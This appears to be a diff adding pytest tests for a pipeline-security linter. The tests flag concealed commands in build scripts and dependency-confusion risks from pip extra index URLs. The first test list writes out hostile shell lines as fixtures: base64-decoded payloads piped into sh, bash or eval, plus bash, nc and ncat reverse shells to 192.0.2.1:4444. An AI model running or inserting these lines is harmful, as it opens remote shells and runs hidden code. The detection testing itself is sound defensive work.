@@ -1,0 +1,77 @@
+"""Scripts that hide what they run, and indexes that a public one can answer for."""
+
+from __future__ import annotations
+
+import pytest
+
+from pipelaw.facts.concealment import concealed
+from pipelaw.facts.confusion import confused
+from pipelaw.model import Script, Variable
+from pipelaw.place import NOWHERE, Text
+
+
+def script(text: str) -> Script:
+    return Script(text=text, source_text=Text(text, ((0, NOWHERE),)))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "echo aGk= | base64 -d | sh",
+        'echo "$X" | base64 --decode | sudo bash -s',
+        "base64 -d a | gunzip | bash",
+        'eval "$(echo aGk= | base64 -d)"',
+        "bash -c `base64 -d < a`",
+        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
+        "exec 5<>/dev/tcp/192.0.2.1/4444",
+        "nc 192.0.2.1 4444 -e /bin/sh",
+        "ncat --exec /bin/bash 192.0.2.1 4444",
+    ],
+)
+def test_what_nobody_can_read(text: str) -> None:
+    assert [flaw.kind for flaw in concealed([script(f"make\n{text}\n")])] == ["concealed"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "# echo aGk= | base64 -d | sh",
+        'echo "$KUBECONFIG" | base64 -d > ~/.kube/config',
+        "base64 -d a | gpg --import",
+        "base64 -d a > b; sh build.sh",
+        "base64 -d a | sh256sum",
+        "(echo > /dev/tcp/db/5432) 2>/dev/null",
+        "nc -z db 5432",
+        "nc -zv db 5432 -c",
+    ],
+)
+def test_what_is_usual(text: str) -> None:
+    assert concealed([script(text)]) == ()
+
+
+@pytest.mark.parametrize(
+    ("text", "count"),
+    [
+        ("pip install --extra-index-url https://packages.acme.example/simple a", 1),
+        ('pip install --extra-index-url="https://x:$TOKEN@packages.acme.example/simple" a', 1),
+        ("uv pip install --extra-index-url $INDEX_URL a", 0),  # nobody knows which
+        ("pip install --extra-index-url https://download.pytorch.org/whl/cpu torch", 0),
+        ("# pip install --extra-index-url https://packages.acme.example a", 0),
+        ("pip install --index-url https://packages.acme.example/simple a", 0),
+    ],
+)
+def test_two_indexes(text: str, count: int) -> None:
+    assert len(confused([script(text)])) == count
+
+
+@pytest.mark.parametrize(
+    ("name", "value", "count"),
+    [
+        ("PIP_EXTRA_INDEX_URL", "https://packages.acme.example/simple", 1),
+        ("PIP_EXTRA_INDEX_URL", "https://download.pytorch.org/whl/cpu", 0),
+        ("PIP_EXTRA_INDEX_URL", "", 0),
+        ("PIP_INDEX_URL", "https://packages.acme.example/simple", 0),
+    ],
+)
+def test_two_indexes_by_a_variable(name: str, value: str, count: int) -> None:
+    assert len(confused((), [Variable(name=name, value=value)])) == count
